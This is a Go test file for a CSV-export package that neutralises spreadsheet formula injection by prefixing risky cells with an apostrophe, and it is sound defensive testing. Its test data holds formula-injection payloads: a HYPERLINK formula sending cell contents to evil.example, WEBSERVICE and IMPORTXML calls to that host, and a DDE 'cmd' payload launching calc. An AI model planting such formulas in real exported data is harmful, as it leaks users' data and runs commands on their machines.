package sheet

import (
	"bytes"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

// formulas are texts that some spreadsheet takes for a formula, or for a command.
func formulas() []string {
	var all []string
	for _, f := range []string{`=1+1`, `+1+1`, `-1+1`, `@SUM(1)`, `=HYPERLINK("http://evil.example/?"&A1)`, `=cmd|' /C calc'!A0`, `=WEBSERVICE("http://evil.example")`, `=IMPORTXML("http://evil.example","//a")`} {
		for _, before := range []string{"", " ", "\t", "\r", "\n", "\r\n", "\x00", "\u00a0", "\u3000", "\u200b", "\ufeff", "'"} {
			all = append(all, before+f)
		}
		wide := strings.NewReplacer("=", "＝", "+", "＋", "-", "－", "@", "＠").Replace(f[:1]) + f[1:]
		all = append(all, wide)
	}
	return all
}

// live returns the texts of which a cell would still be a formula.
func live(cell func(string) string) (found []string) {
	for _, f := range formulas() {
		if c := cell(f); !strings.HasPrefix(c, "'") || c[1:] != f {
			found = append(found, f)
		}
	}
	return found
}

func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	for _, f := range live(Cell) {
		t.Errorf("%q becomes %q", f, Cell(f))
	}
	for _, plain := range []string{"", "a", "TH-50", "สมชาย", "1", "2026-H1", "a=b", "(1)", "0.5", "\"q\""} {
		if Cell(plain) != plain {
			t.Errorf("%q becomes %q", plain, Cell(plain))
		}
	}
}

// The control: cells as they are, and the rule of four signs that is often copied, are caught.
func TestOtherRulesAreCaught(t *testing.T) {
	t.Parallel()
	four := func(s string) string {
		if strings.ContainsAny(s[:1], "=+-@") {
			return "'" + s
		}
		return s
	}
	if asTheyAre, byFour := len(live(func(s string) string { return s })), len(live(four)); asTheyAre != len(formulas()) || byFour < 50 {
		t.Errorf("of %d formulas %d are found in cells as they are, and %d after the rule of four signs", len(formulas()), asTheyAre, byFour)
	}
}

func TestRowsComeBack(t *testing.T) {
	t.Parallel()
	var c CSV
	c.Add("a", `b "quoted"`, "c,d", "e\r\nf", "")
	c.Add("=1", "", "", "", "ก")
	rows, err := csv.NewReader(bytes.NewReader(c.Bytes())).ReadAll()
	if err != nil || len(rows) != 2 || rows[0][1] != `b "quoted"` || rows[1][0] != "'=1" || rows[1][4] != "ก" {
		t.Errorf("got %q, %v", rows, err)
	}
}

// TestLibreOfficeSeesNoFormula asks a spreadsheet. Where it is not installed the table above stands alone.
func TestLibreOfficeSeesNoFormula(t *testing.T) {
	t.Parallel()
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Log("LibreOffice is not installed: not asked")
		return
	}
	var c CSV
	for _, f := range formulas() {
		if !strings.ContainsRune(f, 0) {
			c.Add(f)
		}
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "in.csv"), c.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), office, "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--convert-to", "fods", "--outdir", dir, filepath.Join(dir, "in.csv"))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	converted, err := os.ReadFile(filepath.Join(dir, "in.fods"))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(converted, []byte("table:formula")) {
		t.Error("a cell is a formula")
	}
}

// FuzzCSV holds that any two cells come back from another reader as they are meant.
func FuzzCSV(f *testing.F) {
	for _, s := range formulas() {
		f.Add(s, `a"b,c`)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var c CSV
		c.Add(a, b)
		rows, err := csv.NewReader(bytes.NewReader(c.Bytes())).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("%q and %q come back as %q, %v", a, b, rows, err)
		}
		for i, text := range []string{a, b} {
			// A reader of CSV may write line ends in its own way.
			want := strings.ReplaceAll(Cell(text), "\r\n", "\n")
			if utf8.ValidString(text) && rows[0][i] != want {
				t.Errorf("%q comes back as %q", text, rows[0][i])
			}
		}
	})
}
